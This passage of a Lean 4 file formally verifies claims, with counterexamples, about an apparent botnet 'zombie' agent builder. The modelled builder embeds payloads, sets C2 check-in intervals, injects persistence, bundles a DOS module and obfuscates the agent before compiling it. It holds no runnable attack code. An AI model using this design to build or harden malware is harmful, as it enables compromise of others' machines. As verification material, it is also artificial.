  all_goals refine ⟨by decide, by decide, ?_, ?_⟩
  all_goals first
    | exact fun _ => ⟨rfl, by decide, by decide⟩
    | exact fun hs => Bool.noConfusion hs
    | exact fun _ => rfl

/-- C1 witness: a concrete all-good linux invocation succeeds with a
non-`None` metadata record. -/
theorem c1_witness :
    (build bLinux extAll st0).success = true ∧
    (build bLinux extAll st0).metadata.isSome = true :=
  ⟨by decide, (c1_build_pipeline bLinux extAll st0).2.2.2 (by decide)⟩

/-- C2 counterexample: with the python check passing and the PyArmor version
query failing, the verifier stops at once — the packaging-tool check (and
everything after it) is not performed, contradicting the claim that the
remaining checks still run. -/
theorem c2_counterexample :
    (check_dependencies bLinux { extAll with pyarmor_ok := false } st0).ok = false ∧
    (check_dependencies bLinux { extAll with pyarmor_ok := false } st0).performed =
      [DepCheck.pythonVer, DepCheck.pyarmorTool] ∧
    DepCheck.pyinstallerTool ∉
      (check_dependencies bLinux { extAll with pyarmor_ok := false } st0).performed := by
  decide

/-- C2 amended: when the PyArmor version query fails (and the runtime version
check passed), the dependency verifier logs an error and returns failure
immediately, without performing any of the remaining checks. -/
theorem c2_amended (b : Builder) (e : Ext) (st : St)
    (hpy : pyVerLt e.python_version (3, 6, 0) = false)
    (hpa : e.pyarmor_ok = false) :
    check_dependencies b e st =
      ⟨false, st, [DepCheck.pythonVer, DepCheck.pyarmorTool], true⟩ := by
  unfold check_dependencies
  rw [hpy, hpa]
  simp

/-- C2 witness: the amended statement evaluated on a concrete world whose
PyArmor query fails. -/
theorem c2_witness :
    check_dependencies bLinux { extAll with pyarmor_ok := false } st0 =
      ⟨false, st0, [DepCheck.pythonVer, DepCheck.pyarmorTool], true⟩ :=
  c2_amended bLinux { extAll with pyarmor_ok := false } st0 (by decide) rfl

/-- C5: the source customizer substitutes the check-in/poll interval pair
`(300, 30)` for level `basic`, `(600, 60)` for `medium`, `(1800, 120)` for
`advanced`, and no other pair is ever produced for any level string. -/
theorem c5_interval_mapping :
    interval_pair "basic" = (300, 30) ∧ interval_pair "medium" = (600, 60) ∧
    interval_pair "advanced" = (1800, 120) ∧
    ∀ level : String, interval_pair level = (300, 30) ∨
      interval_pair level = (600, 60) ∨ interval_pair level = (1800, 120) := by
  refine ⟨rfl, rfl, rfl, ?_⟩
  intro level
  unfold interval_pair
  split
  · exact Or.inl rfl
  · split
    · exact Or.inr (Or.inr rfl)
    · exact Or.inr (Or.inl rfl)

/-- With a payload configured on a non-windows platform, the dependency
verifier can never return success. -/
theorem dep_fail_payload (b : Builder) (e : Ext) (st : St)
    (hp : b.payload_path.isSome = true) (hw : b.platform ≠ "windows") :
    (check_dependencies b e st).ok = false := by
  unfold check_dependencies
  repeat' split
  all_goals first | rfl | simp_all

/-- C6: a payload path configured with a non-windows platform always fails
dependency verification, with the build aborting before any directory is
created; a payload path configured on windows with an existing, readable file
(and the preceding checks passing) makes verification succeed and store the
base64 encoding of the payload bytes, whose decoding is the original file
contents. -/
theorem c6_payload_gating (b : Builder) (e : Ext) (st : St) :
    (b.payload_path.isSome = true → b.platform ≠ "windows" →
      (afterDeps b e st).ok = false ∧ (build b e st).success = false ∧
      (build b e st).st.dirs = st.dirs) ∧
    (pyVerLt e.python_version (3, 6, 0) = false → e.pyarmor_ok = true →
      e.pyinstaller_ok = true → e.source_exists = true → e.dos_exists = true →
      (b.icon_path.isSome && !e.icon_exists) = false →
      b.payload_path.isSome = true → b.platform = "windows" →
      e.payload_exists = true → e.payload_read_ok = true →
      (∀ x ∈ e.payload_bytes, x < 256) →
      (check_dependencies b e st).ok = true ∧
      (check_dependencies b e st).st.payload_data = some (b64encode e.payload_bytes) ∧
      b64decode (b64encode e.payload_bytes) = e.payload_bytes) := by
  constructor
  · intro hp hw
    have hok : (afterDeps b e st).ok = false := dep_fail_payload b e _ hp hw
    refine ⟨hok, ?_, ?_⟩
    · unfold build
      rw [hok]
      rfl
    · unfold build
      rw [hok]
      exact (check_dependencies_st b e _).1
  · intro h1 h2 h3 h4 h5 h6 h7 h8 h9 h10 hbytes
    unfold check_dependencies
    rw [h1, h2, h3, h4, h5, h6, h7, h8, h9, h10]
    simp only [Bool.not_true, Bool.false_eq_true, if_false, ne_eq, not_true_eq_false]
    refine ⟨rfl, rfl, b64decode_b64encode _ hbytes⟩

/-- C6 witness: a linux invocation with a payload fails verification with no
directories created, and a windows invocation with the same payload stores
the round-tripping base64 bundle. -/
theorem c6_witness :
    ((afterDeps bLinuxPay extAll st0).ok = false ∧
      (build bLinuxPay extAll st0).success = false ∧
      (build bLinuxPay extAll st0).st.dirs = st0.dirs) ∧
    ((check_dependencies bWinPay extAll st0).ok = true ∧
      (check_dependencies bWinPay extAll st0).st.payload_data =
        some (b64encode extAll.payload_bytes) ∧
      b64decode (b64encode extAll.payload_bytes) = extAll.payload_bytes) :=
  ⟨(c6_payload_gating bLinuxPay extAll st0).1 (by decide) (by decide),
   (c6_payload_gating bWinPay extAll st0).2 (by decide) rfl rfl rfl rfl (by decide)
     (by decide) rfl rfl rfl (by decide)⟩

/-- A successful compilation stage leaves the produced executable at the
deterministic output path. -/
theorem compile_success_file (b : Builder) (e : Ext) (st : St)
    (h : (compile_executable b e st).1 = true) :
    getFile (compile_executable b e st).2 (final_executable b) = some e.exe_bytes := by
  unfold compile_executable at h ⊢
  cases hall : (files_to_check b st).all (fun p => (getFile st p).isSome) with
  | false =>
    rw [hall] at h
    exact Bool.noConfusion h
  | true =>
    rw [hall] at h
    cases hrun : e.pyinstaller_run_ok with
    | false =>
      rw [hrun] at h
      exact Bool.noConfusion h
    | true =>
      rw [hrun] at h
      cases hexe : e.exe_produced with
      | false =>
        rw [hexe] at h
        exact Bool.noConfusion h
      | true =>
        rw [hexe] at h
        exact getFile_putFile _ _ _

/-- A non-degraded metadata generation writes the record as JSON to the
deterministically named metadata file. -/
theorem generate_metadata_json (b : Builder) (e : Ext) (st : St)
    (hm : e.meta_err = false) :
    assocGet (generate_metadata b e st).2.jsonFiles
      (b.output_dir ++ "/" ++ b.build_id ++ "_metadata.json") =
      some (generate_metadata b e st).1 := by
  unfold generate_metadata
  rw [hm]
  simp only [Bool.false_eq_true, if_false]
  simp [putJson, assocGet]

/-- C7: on every successful build the produced executable lands at
`<output>/zombie_<platform>_<timestamp><extension>` and (when metadata
generation does not degrade) the metadata JSON at
`<output>/<build id>_metadata.json`; the extension is `.exe` for windows,
`.app` for macos, and empty for every other platform value. -/
theorem c7_naming (b : Builder) (e : Ext) (st : St)
    (h : (build b e st).success = true) (hm : e.meta_err = false) :
    getFile (afterCompile b e st).2
      (b.output_dir ++ "/zombie_" ++ b.platform ++ "_" ++ b.build_timestamp ++
        get_file_extension b) = some e.exe_bytes ∧
    (assocGet (afterMeta b e st).2.jsonFiles
      (b.output_dir ++ "/" ++ b.build_id ++ "_metadata.json")).isSome = true ∧
    (b.platform = "windows" → get_file_extension b = ".exe") ∧
    (b.platform = "macos" → get_file_extension b = ".app") ∧
    (b.platform ≠ "windows" → b.platform ≠ "macos" → get_file_extension b = "") := by
  obtain ⟨-, -, -, -, h5⟩ := build_success_stages b e st h
  refine ⟨compile_success_file b e _ h5, ?_, ?_, ?_, ?_⟩
  · unfold afterMeta
    rw [generate_metadata_json b e _ hm]
    rfl
  · intro hw
    simp [get_file_extension, hw]
  · intro hmac
    simp [get_file_extension, hmac]
  · intro hnw hnm
    simp [get_file_extension, hnw, hnm]

/-- C7 witness: the naming statement evaluated on the concrete successful
linux build. -/
theorem c7_witness :
    getFile (afterCompile bLinux extAll st0).2
      (bLinux.output_dir ++ "/zombie_" ++ bLinux.platform ++ "_" ++
        bLinux.build_timestamp ++ get_file_extension bLinux) = some extAll.exe_bytes ∧
    (assocGet (afterMeta bLinux extAll st0).2.jsonFiles
      (bLinux.output_dir ++ "/" ++ bLinux.build_id ++ "_metadata.json")).isSome = true :=
  (fun hthm => ⟨hthm.1, hthm.2.1⟩) (c7_naming bLinux extAll st0 (by decide) rfl)

/-- A preparation state holding a pattern-free agent source for the linux
builder. -/
def stPrepLinux : St :=
  putFile st0 (prep_dir bLinux ++ "/" ++ SOURCE_FILE) (strBytes "x = 1\n")

/-- A preparation state holding a pattern-free agent source for the windows
builder. -/
def stPrepWin : St :=
  putFile st0 (prep_dir bWin ++ "/" ++ SOURCE_FILE) (strBytes "x = 1\n")

/-- C8 counterexample: on a windows configuration the source customizer fails
(and writes nothing) even for a source text containing none of the expected
patterns, because the persistence replacement template itself is rejected by
the regex engine — contradicting the claim that customization writes the
input unchanged and returns success. -/
theorem c8_counterexample :
    (modify_source_code bWin extNoPatterns stPrepWin).1 = false ∧
    (getFile (modify_source_code bWin extNoPatterns stPrepWin).2
      (modified_source bWin)).isSome = false := by
  decide

/-- `hasBackslash` distributes over concatenation. -/
theorem hasBackslash_append (a c : List Nat) :
    hasBackslash (a ++ c) = (hasBackslash a || hasBackslash c) := by
  induction a with
  | nil => rfl
  | cons x xs ih => simp [hasBackslash, ih, Bool.or_assoc]

/-- A backslash-free replacement template is processed to itself. -/
theorem processTemplate_clean :
    ∀ l : List Nat, hasBackslash l = false → processTemplate l = some l
  | [] => fun _ => rfl
  | [c] => fun h => by
      simp only [hasBackslash, Bool.or_eq_false_iff] at h
      simp [processTemplate, h.1]
  | c :: d :: rest => fun h => by
      simp only [hasBackslash, Bool.or_eq_false_iff] at h
      obtain ⟨hc, hd, hrest⟩ := h
      have ih := processTemplate_clean (d :: rest)
        (by simp only [hasBackslash, Bool.or_eq_false_iff]; exact ⟨hd, hrest⟩)
      simp [processTemplate, hc, ih]

/-- The timing-constant replacement templates never contain a backslash, so
their processing is the identity for every obfuscation level. -/
theorem processTemplate_intervals (level : String) :
    processTemplate (strBytes ("CHECK_IN_INTERVAL = " ++
        toString (interval_pair level).1)) =
      some (strBytes ("CHECK_IN_INTERVAL = " ++ toString (interval_pair level).1)) ∧
    processTemplate (strBytes ("COMMAND_POLL_INTERVAL = " ++
        toString (interval_pair level).2)) =
      some (strBytes ("COMMAND_POLL_INTERVAL = " ++ toString (interval_pair level).2)) := by
  have h3 : interval_pair level = (300, 30) ∨ interval_pair level = (600, 60) ∨
      interval_pair level = (1800, 120) := by
    unfold interval_pair
    split
    · exact Or.inl rfl
    · split
      · exact Or.inr (Or.inr rfl)
      · exact Or.inr (Or.inl rfl)
  rcases h3 with h | h | h <;> rw [h] <;> exact ⟨by decide, by decide⟩

/-- C8 amended: on every non-windows configuration whose server address (and
generated agent identifier — in the program always `zombie_` followed by
eight hex digits) contains no backslash, a staged agent source containing
none of the expected literal patterns (server-address constant, identifier
expression, the two timing constants, the main-entry marker) is written
unchanged to the build-identifier-named file and the stage returns success;
on windows the stage always fails because the persistence replacement
contains escape sequences `re.sub` rejects. (A backslash-letter sequence in
the server address would itself make `re.sub` reject the replacement
template and the stage fail, even with no pattern present.) -/
theorem c8_amended (b : Builder) (e : Ext) (st : St) (src : List Nat)
    (hplat : b.platform ≠ "windows")
    (hsrv : hasBackslash (strBytes b.server_url) = false)
    (hzid : hasBackslash (strBytes e.fresh_zombie_id) = false)
    (hread : getFile st (prep_dir b ++ "/" ++ SOURCE_FILE) = some src)
    (h1 : hasSub serverPattern src = false)
    (h2 : hasSub zombieIdPattern src = false)
    (h3 : hasSub checkInPattern src = false)
    (h4 : hasSub pollPattern src = false)
    (h5 : hasSub mainPattern src = false) :
    modify_source_code b e st = (true, putFile st (modified_source b) src) ∧
    getFile (modify_source_code b e st).2 (modified_source b) = some src := by
  have hr1 : processTemplate (strBytes ("SERVER_URL = \"" ++ b.server_url ++ "\"")) =
      some (strBytes ("SERVER_URL = \"" ++ b.server_url ++ "\"")) := by
    apply processTemplate_clean
    rw [strBytes_append, strBytes_append, hasBackslash_append, hasBackslash_append, hsrv]
    decide
  have hr2 : processTemplate (strBytes ("ZOMBIE_ID = \"" ++ e.fresh_zombie_id ++ "\"")) =
      some (strBytes ("ZOMBIE_ID = \"" ++ e.fresh_zombie_id ++ "\"")) := by
    apply processTemplate_clean
    rw [strBytes_append, strBytes_append, hasBackslash_append, hasBackslash_append, hzid]
    decide
  obtain ⟨hr3, hr4⟩ := processTemplate_intervals b.obfuscation_level
  have e1 : ∀ r, subAll serverPattern r src = src :=
    fun r => subAll_of_no_match serverPattern r src h1
  have e2 : ∀ r, subAll zombieIdPattern r src = src :=
    fun r => subAll_of_no_match zombieIdPattern r src h2
  have e3 : ∀ r, subAll checkInPattern r src = src :=
    fun r => subAll_of_no_match checkInPattern r src h3
  have e4 : ∀ r, subAll pollPattern r src = src :=
    fun r => subAll_of_no_match pollPattern r src h4
  have e5 : subAll mainPattern unixPersistReplacement src = src :=
    subAll_of_no_match mainPattern unixPersistReplacement src h5
  have hcust : apply_source_customizations b e.fresh_zombie_id src = some src := by
    simp only [apply_source_customizations, hr1, e1, hr2, e2, hr3, e3, hr4, e4,
      if_neg hplat, e5, ite_self]
  have hm : modify_source_code b e st = (true, putFile st (modified_source b) src) := by
    unfold modify_source_code
    rw [hread]
    simp [hcust]
  exact ⟨hm, by rw [hm]; exact getFile_putFile st (modified_source b) src⟩

/-- C8 witness: the amended statement evaluated on a concrete linux
invocation with a pattern-free source. -/
theorem c8_witness :
    modify_source_code bLinux extNoPatterns stPrepLinux =
      (true, putFile stPrepLinux (modified_source bLinux) (strBytes "x = 1\n")) ∧
    getFile (modify_source_code bLinux extNoPatterns stPrepLinux).2
      (modified_source bLinux) = some (strBytes "x = 1\n") :=
  c8_amended bLinux extNoPatterns stPrepLinux (strBytes "x = 1\n") (by decide) (by decide)
    (by decide) (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)

/-- C3 (code bug): a windows invocation with a valid payload and every tool
and input present still fails: dependency verification and staging succeed,
but source customization aborts (the windows persistence replacement is
rejected by the regex engine), so `build()` returns `(False, None)` — no
successful payload build exists, and the payload metadata property the claim
describes is unrealizable. (Customization apart, the payload module generator
also raises `NameError` after creating only an empty module file, and its
`False` return is ignored by the stager.) -/
theorem c3_payload_build_fails :
    (build bWinPay extAll st0).success = false ∧
    (build bWinPay extAll st0).metadata.isSome = false ∧
    (build bWinPay extAll st0).ran = [Stage.deps, Stage.prep, Stage.modifySrc] ∧
    (afterDeps bWinPay extAll st0).ok = true ∧
    (afterPrep bWinPay extAll st0).1 = true ∧
    (afterModify bWinPay extAll st0).1 = false := by
  decide

/-- C10 (code bug): a successful linux build whose metadata generation hits an
internal error returns `success = True` with the degraded minimal record, and
that record contains neither `zombie_id` nor `server_url` — the success
summary of the entry point reads both unconditionally and would raise
`KeyError`. -/
theorem c10_degraded_missing_keys :
    (build bLinux extMetaErr st0).success = true ∧
    (build bLinux extMetaErr st0).metadata.isSome = true ∧
    ((build bLinux extMetaErr st0).metadata.map
      (fun md => (assocGet md "zombie_id").isSome)) = some false ∧
    ((build bLinux extMetaErr st0).metadata.map
      (fun md => (assocGet md "server_url").isSome)) = some false ∧
    ((build bLinux extMetaErr st0).metadata.map main_summary_reads) = some false := by
  decide

/-- C4: whenever the PyArmor path fails for any reason, the manual fallback
writes the self-decoding wrapper at the expected obfuscated-file path, and
decoding the embedded base85 blob and decompressing it reproduces the
customized source byte-for-byte. -/
theorem c4_fallback_roundtrip (b : Builder) (e : Ext) (st : St) (src : List Nat)
    (hfail : (try_pyarmor_obfuscation b e st).1 = false)
    (hread : getFile (try_pyarmor_obfuscation b e st).2 (modified_source b) = some src)
    (hsrc : ∀ x ∈ src, x < 256) :
    getFile (obfuscate_code b e st).2 (obfuscated_file b) =
      some (manualWrapper e.iso_timestamp (b85encode (e.zlib.comp src))) ∧
    e.zlib.decomp (b85decode (b85encode (e.zlib.comp src))) = src := by
  constructor
  · simp only [obfuscate_code]
    rw [hfail]
    simp only [Bool.false_eq_true, if_false]
    unfold manual_obfuscation
    rw [hread]
    dsimp only
    split
    · exact getFile_putFile _ _ _
    · split
      · split
        · rw [getFile_putFile_ne _ _ _ _ (dos_obf_ne b)]
          exact getFile_putFile _ _ _
        · rw [getFile_putFile_ne _ _ _ _ (payload_obf_ne b),
              getFile_putFile_ne _ _ _ _ (dos_obf_ne b)]
          exact getFile_putFile _ _ _
      · rw [getFile_putFile_ne _ _ _ _ (dos_obf_ne b)]
        exact getFile_putFile _ _ _
  · rw [b85decode_b85encode _ (e.zlib.byteRange src hsrc)]
    exact e.zlib.round src hsrc

/-- A prepared state holding a customized source and companion module for the
fallback witness. -/
def stMod : St :=
  putFile (putFile st0 (prep_dir bLinux ++ "/" ++ DOS_MODULE_FILE) (strBytes "x = 1\n"))
    (modified_source bLinux) (strBytes "hi")

/-- C4 witness: with the PyArmor invocation raising, the fallback writes the
wrapper embedding the blob of the concrete customized source, and the blob
round-trips. -/
theorem c4_witness :
    getFile (obfuscate_code bLinux extPyarmorFail stMod).2 (obfuscated_file bLinux) =
      some (manualWrapper "T" (b85encode (strBytes "hi"))) ∧
    zlibId.decomp (b85decode (b85encode (zlibId.comp (strBytes "hi")))) = strBytes "hi" :=
  c4_fallback_roundtrip bLinux extPyarmorFail stMod (strBytes "hi") (by decide) (by decide)
    (by decide)

/-! ## Directory bookkeeping for the cleanup claim -/

theorem dirs_putFile (s : St) (p : String) (c : List Nat) : (putFile s p c).dirs = s.dirs := rfl

theorem dirs_addDir (s : St) (d : String) : (addDir s d).dirs = d :: s.dirs := rfl

theorem dirs_foldl {β : Type} (g : St → β → St) (hg : ∀ s x, (g s x).dirs = s.dirs) :
    ∀ (l : List β) (st : St), (l.foldl g st).dirs = st.dirs := by
  intro l
  induction l with
  | nil => intro st; rfl
  | cons x xs ih => intro st; rw [List.foldl_cons, ih, hg]

/-- A successful environment stager created exactly the build tree and the
output directory. -/
theorem prepare_ok_dirs (b : Builder) (e : Ext) (st : St)
    (h : (prepare_build_environment b e st).1 = true) :
    (prepare_build_environment b e st).2.dirs =
      b.output_dir :: compile_dir b :: obfuscate_dir b :: prep_dir b :: build_dir b ::
        st.dirs := by
  unfold prepare_build_environment at h ⊢
  cases hp : e.prep_err with
  | true => rw [hp] at h; exact Bool.noConfusion h
  | false =>
    simp [create_payload_module, addDir, putFile]
    split <;> rfl

theorem modify_dirs (b : Builder) (e : Ext) (st : St) :
    (modify_source_code b e st).2.dirs = st.dirs := by
  unfold modify_source_code
  repeat' split
  all_goals rfl

theorem pyarmor_run_dirs (b : Builder) (e : Ext) (dsrc : List Nat)
    (pay : Option (List Nat)) (st : St) :
    ∃ ex : List String, (pyarmor_run b e dsrc pay st).2.dirs = ex ++ st.dirs := by
  have hfold : ∀ (l : List (String × List Nat)) (s : St),
      (l.foldl (fun s nc => putFile s (obfuscate_dir b ++ "/" ++ nc.1) nc.2) s).dirs =
        s.dirs :=
    dirs_foldl _ (fun _ _ => rfl)
  unfold pyarmor_run
  repeat' split
  all_goals first
    | exact ⟨[pyarmor_work_dir b ++ "/dist"], rfl⟩
    | (refine ⟨[obfuscate_dir b, pyarmor_work_dir b ++ "/dist"], ?_⟩
       simp [dirs_putFile, dirs_addDir, hfold])

theorem try_pyarmor_dirs (b : Builder) (e : Ext) (st : St) :
    ∃ ex : List String, (try_pyarmor_obfuscation b e st).2.dirs = ex ++ st.dirs := by
  unfold try_pyarmor_obfuscation
  dsimp only
  repeat' split
  all_goals first
    | exact ⟨[pyarmor_work_dir b], rfl⟩
    | (obtain ⟨ex, hex⟩ := pyarmor_run_dirs b e _ _ _
       refine ⟨ex ++ [pyarmor_work_dir b], ?_⟩
       rw [hex]
       simp [dirs_putFile, dirs_addDir])

theorem manual_dirs (b : Builder) (e : Ext) (st : St) :
    ∃ ex : List String, (manual_obfuscation b e st).2.dirs = ex ++ st.dirs := by
  unfold manual_obfuscation
  dsimp only
  repeat' split
  all_goals first
    | exact ⟨[], rfl⟩
    | exact ⟨[obfuscate_dir b], rfl⟩

theorem obf_dirs (b : Builder) (e : Ext) (st : St) :
    ∃ ex : List String, (obfuscate_code b e st).2.dirs = ex ++ st.dirs := by
  simp only [obfuscate_code]
  split
  · exact try_pyarmor_dirs b e st
  · obtain ⟨ex1, h1⟩ := try_pyarmor_dirs b e st
    obtain ⟨ex2, h2⟩ := manual_dirs b e (try_pyarmor_obfuscation b e st).2
    exact ⟨ex2 ++ ex1, by rw [h2, h1, List.append_assoc]⟩

theorem compile_build_length (b : Builder) :
    (compile_dir b).length = (build_dir b).length + 8 := by
  unfold compile_dir
  rw [String.length_append]
  rfl

theorem prep_build_length (b : Builder) :
    (prep_dir b).length = (build_dir b).length + 5 := by
  unfold prep_dir
  rw [String.length_append]
  rfl

theorem obf_build_length (b : Builder) :
    (obfuscate_dir b).length = (build_dir b).length + 10 := by
  unfold obfuscate_dir
  rw [String.length_append]
  rfl

theorem strLeads_false_of_long (p s : String) (h : s.length < p.length) :
    strLeads p s = false := by
  cases hl : strLeads p s with
  | false => rfl
  | true =>
    have := leadsWith_length (strBytes p) (strBytes s) hl
    rw [strBytes_length, strBytes_length] at this
    omega

theorem leadsWith_append_left (a : List Nat) :
    ∀ p s : List Nat, leadsWith (a ++ p) (a ++ s) = leadsWith p s := by
  induction a with
  | nil => intro p s; rfl
  | cons x xs ih =>
    intro p s
    simp only [List.cons_append, leadsWith]
    rw [show xs.append p = xs ++ p from rfl, show xs.append s = xs ++ s from rfl, ih p s]
    simp

theorem build_ne_compile (b : Builder) : build_dir b ≠ compile_dir b := by
  intro h
  have := congrArg String.length h
  rw [compile_build_length] at this
  omega

theorem prep_ne_compile (b : Builder) : prep_dir b ≠ compile_dir b := by
  intro h
  have := congrArg String.length h
  rw [compile_build_length, prep_build_length] at this
  omega

theorem obf_ne_compile (b : Builder) : obfuscate_dir b ≠ compile_dir b := by
  intro h
  have := congrArg String.length h
  rw [compile_build_length, obf_build_length] at this
  omega

theorem not_lead_compile_build (b : Builder) :
    strLeads (compile_dir b ++ "/") (build_dir b) = false := by
  apply strLeads_false_of_long
  rw [String.length_append, compile_build_length]
  omega

theorem not_lead_compile_prep (b : Builder) :
    strLeads (compile_dir b ++ "/") (prep_dir b) = false := by
  apply strLeads_false_of_long
  rw [String.length_append, compile_build_length, prep_build_length]
  omega

theorem not_lead_compile_obf (b : Builder) :
    strLeads (compile_dir b ++ "/") (obfuscate_dir b) = false := by
  unfold strLeads compile_dir obfuscate_dir
  rw [String.append_assoc]
  simp only [strBytes_append]
  rw [leadsWith_append_left]
  decide

/-- A successful compilation stage keeps the compilation directory and every
existing directory outside the compilation subtree. -/
theorem compile_success_dirs (b : Builder) (e : Ext) (st : St)
    (h : (compile_executable b e st).1 = true) :
    compile_dir b ∈ (compile_executable b e st).2.dirs ∧
    ∀ d ∈ st.dirs, d ≠ compile_dir b → strLeads (compile_dir b ++ "/") d = false →
      d ∈ (compile_executable b e st).2.dirs := by
  have hfold1 : ∀ (l : List String) (s : St),
      (l.foldl (fun s p =>
        match getFile s p with
        | some c => putFile s (compile_dir b ++ "/" ++ baseName p) c
        | none => s) s).dirs = s.dirs :=
    dirs_foldl _ (fun s p => by cases hq : getFile s p <;> simp [hq, dirs_putFile])
  have hfold2 : ∀ (l : List (String × List Nat)) (s : St),
      (l.foldl (fun s f => putFile s (compile_dir b ++ "/" ++ baseName f.1) f.2) s).dirs =
        s.dirs :=
    dirs_foldl _ (fun _ _ => rfl)
  unfold compile_executable at h ⊢
  revert h
  cases hall : (files_to_check b st).all (fun p => (getFile st p).isSome) with
  | false => intro h; exact Bool.noConfusion h
  | true =>
    cases hrun : e.pyinstaller_run_ok with
    | false => intro h; exact Bool.noConfusion h
    | true =>
      cases hexe : e.exe_produced with
      | false => intro h; exact Bool.noConfusion h
      | true =>
        intro _
        simp only [eq_self_iff_true, if_true, Bool.not_true, Bool.false_eq_true, if_false]
        constructor
        · simp only [dirs_putFile, dirs_addDir, hfold1, hfold2]
          exact List.mem_cons_of_mem _ (List.mem_cons_self _ _)
        · intro d hd hne hnl
          simp only [dirs_putFile, dirs_addDir, hfold1, hfold2]
          apply List.mem_cons_of_mem
          apply List.mem_cons_of_mem
          simp only [removeTree, List.mem_filter]
          refine ⟨hd, ?_⟩
          simp [hne, hnl]

theorem generate_metadata_dirs (b : Builder) (e : Ext) (st : St) :
    (generate_metadata b e st).2.dirs = st.dirs := by
  unfold generate_metadata
  repeat' split
  all_goals rfl

theorem clean_up_true (b : Builder) (e : Ext) (st : St) : (clean_up b e st).1 = true := by
  unfold clean_up
  repeat' split
  all_goals rfl

theorem clean_up_debug (b : Builder) (e : Ext) (st : St) (hd : b.debug = true) :
    (clean_up b e st).2 = st := by
  unfold clean_up
  rw [hd]
  rfl

theorem clean_up_nodebug_build_dir (b : Builder) (e : Ext) (st : St) (hd : b.debug = false) :
    build_dir b ∉ (clean_up b e st).2.dirs := by
  intro hmem
  unfold clean_up at hmem
  rw [hd] at hmem
  rw [if_pos Bool.not_false] at hmem
  split at hmem <;> simp [removeTree, List.mem_filter] at hmem

/-- C9: after a successful `build()` with debug off, the build root directory
does not exist; with debug on, the build root and the three staging
subdirectories are retained; and the cleanup stage returns success on every
input, including when an internal error occurs during cleanup. -/
theorem c9_cleanup (b : Builder) (e : Ext) (st : St)
    (h : (build b e st).success = true) :
    (b.debug = false → build_dir b ∉ (build b e st).st.dirs) ∧
    (b.debug = true → build_dir b ∈ (build b e st).st.dirs ∧
      prep_dir b ∈ (build b e st).st.dirs ∧
      obfuscate_dir b ∈ (build b e st).st.dirs ∧
      compile_dir b ∈ (build b e st).st.dirs) ∧
    (∀ e2 : Ext, ∀ st2 : St, (clean_up b e2 st2).1 = true) := by
  obtain ⟨h1, h2, h3, h4, h5⟩ := build_success_stages b e st h
  have hbuild := build_eq_of_ok b e st h1 h2 h3 h4 h5
  rw [hbuild]
  dsimp only
  refine ⟨?_, ?_, fun e2 st2 => clean_up_true b e2 st2⟩
  · intro hd
    exact clean_up_nodebug_build_dir b e _ hd
  · intro hd
    unfold afterCleanup
    rw [clean_up_debug b e _ hd]
    unfold afterMeta
    rw [generate_metadata_dirs b e _]
    unfold afterCompile
    obtain ⟨hc_mem, hc_keep⟩ := compile_success_dirs b e (afterObf b e st).2 h5
    have hobfmem : ∀ d : String,
        d ∈ (afterPrep b e st).2.dirs → d ∈ (afterObf b e st).2.dirs := by
      intro d hdmem
      obtain ⟨ex, hex⟩ := obf_dirs b e (afterModify b e st).2
      unfold afterObf
      rw [hex]
      apply List.mem_append_right
      rw [show (afterModify b e st).2.dirs = (afterPrep b e st).2.dirs from modify_dirs b e _]
      exact hdmem
    have hpd := prepare_ok_dirs b e (afterDeps b e st).st h2
    refine ⟨?_, ?_, ?_, hc_mem⟩
    · exact hc_keep _ (hobfmem _ (by rw [show (afterPrep b e st).2.dirs = _ from hpd]; simp))
        (build_ne_compile b) (not_lead_compile_build b)
    · exact hc_keep _ (hobfmem _ (by rw [show (afterPrep b e st).2.dirs = _ from hpd]; simp))
        (prep_ne_compile b) (not_lead_compile_prep b)
    · exact hc_keep _ (hobfmem _ (by rw [show (afterPrep b e st).2.dirs = _ from hpd]; simp))
        (obf_ne_compile b) (not_lead_compile_obf b)

/-- C9 witness: the cleanup statement evaluated on the concrete successful
linux builds with debug off and debug on. -/
theorem c9_witness :
    (build_dir bLinux ∉ (build bLinux extAll st0).st.dirs) ∧
    (build_dir bDebug ∈ (build bDebug extAll st0).st.dirs ∧
      prep_dir bDebug ∈ (build bDebug extAll st0).st.dirs ∧
      obfuscate_dir bDebug ∈ (build bDebug extAll st0).st.dirs ∧
      compile_dir bDebug ∈ (build bDebug extAll st0).st.dirs) ∧
    (clean_up bLinux extAll st0).1 = true :=
  ⟨(c9_cleanup bLinux extAll st0 (by decide)).1 rfl,
   (c9_cleanup bDebug extAll st0 (by decide)).2.1 rfl,
   (c9_cleanup bLinux extAll st0 (by decide)).2.2 extAll st0⟩

end ZombieBuild
